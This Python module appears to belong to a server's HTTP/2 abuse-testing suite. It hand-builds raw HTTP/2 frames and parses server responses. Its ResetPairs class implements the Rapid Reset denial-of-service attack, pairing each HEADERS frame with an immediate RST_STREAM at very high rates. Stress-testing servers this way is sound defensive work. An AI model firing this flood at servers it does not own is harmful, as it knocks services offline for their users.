"""Raw HTTP/2 frames for the abuse suite's attackers: byte strings built with struct, fast enough to send hundreds of
thousands of frames a second from Python (python3-h2's state machine is far slower, and refuses to send most abuse).

Requests are HPACK-encoded with static-table entries and literals without indexing, so that the same header block
is valid on every stream and the server's dynamic table never changes."""

import select
import socket
import struct
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xB
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
               5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
               10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid & 0x7FFFFFFF) + payload


def _hpack_str(b):
    if isinstance(b, str):
        b = b.encode("latin-1")
    assert len(b) < 127
    return bytes([len(b)]) + b


def header_block(method, path, authority="127.0.0.1", headers=()):
    """:method, :scheme http, :path, :authority, then `headers` ((name, value) pairs, names in lower case)."""
    block = {"GET": b"\x82", "POST": b"\x83"}.get(method) or (b"\x02" + _hpack_str(method))
    block += b"\x86"  # :scheme http
    block += b"\x04" + _hpack_str(path)  # :path, literal without indexing (name index 4)
    block += b"\x01" + _hpack_str(authority)  # :authority
    for name, value in headers:
        block += b"\x00" + _hpack_str(name) + _hpack_str(value)  # literal without indexing, new name
    return block


def client_start(window=None, settings=b""):
    """The client preface and SETTINGS (with `settings`: raw 6-byte entries), and a connection WINDOW_UPDATE."""
    out = PREFACE + frame(SETTINGS, 0, 0, settings)
    if window:
        out += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", window))
    return out


def setting(ident, value):
    return struct.pack(">HI", ident, value)


class ResetPairs:
    """HEADERS (END_STREAM) followed at once by RST_STREAM (CANCEL), stream after stream: the Rapid Reset attack."""

    def __init__(self, method, path):
        block = header_block(method, path)
        self.fmt = struct.Struct(">BHBBI%dsBHBBII" % len(block))
        self.block = block
        self.next_sid = 1

    def batch(self, n):
        fmt, block, sid = self.fmt, self.block, self.next_sid
        nb = len(block)
        parts = [fmt.pack(0, nb, HEADERS, END_STREAM | END_HEADERS, s, block, 0, 4, RST_STREAM, 0, s, CANCEL)
                 for s in range(sid, sid + 2 * n, 2)]
        self.next_sid = sid + 2 * n
        return b"".join(parts)


class FrameReader:
    """Parses what the server sends: GOAWAY (last stream, code, debug text), counts of frames by type."""

    def __init__(self):
        self.buf = b""
        self.goaway = None
        self.counts = {}
        self.ended = set()  # streams the server ended (END_STREAM) or reset
        self.settings_to_ack = 0  # SETTINGS frames of the server not acknowledged yet

    def feed(self, data):
        buf = self.buf + data if self.buf else data
        pos, end = 0, len(buf)
        counts, ended = self.counts, self.ended
        while end - pos >= 9:
            n = (buf[pos] << 16) | (buf[pos + 1] << 8) | buf[pos + 2]
            if end - pos < 9 + n:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            counts[ftype] = counts.get(ftype, 0) + 1
            if (ftype <= HEADERS and flags & END_STREAM) or ftype == RST_STREAM:
                ended.add(int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF)
            elif ftype == SETTINGS and not flags & ACK:
                self.settings_to_ack += 1
            elif ftype == GOAWAY and n >= 8:
                last, code = struct.unpack_from(">II", buf, pos + 9)
                self.goaway = (last & 0x7FFFFFFF, code, bytes(buf[pos + 17:pos + 9 + n]).decode("latin-1", "replace"))
            pos += 9 + n
        self.buf = buf[pos:]

    def goaway_text(self):
        if self.goaway is None:
            return None
        return "%s%s" % (ERROR_NAMES.get(self.goaway[1], self.goaway[1]),
                         (" \"%s\"" % self.goaway[2]) if self.goaway[2] else "")


def drain(sock, reader, wait=0.0):
    """Reads what is there (waiting at most `wait` seconds for the first bytes); returns False once the peer has
    closed."""
    while True:
        readable, _, _ = select.select([sock], [], [], wait)
        if not readable:
            return True
        wait = 0.0
        try:
            data = sock.recv(1 << 16)
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False
        if not data:
            return False
        reader.feed(data)
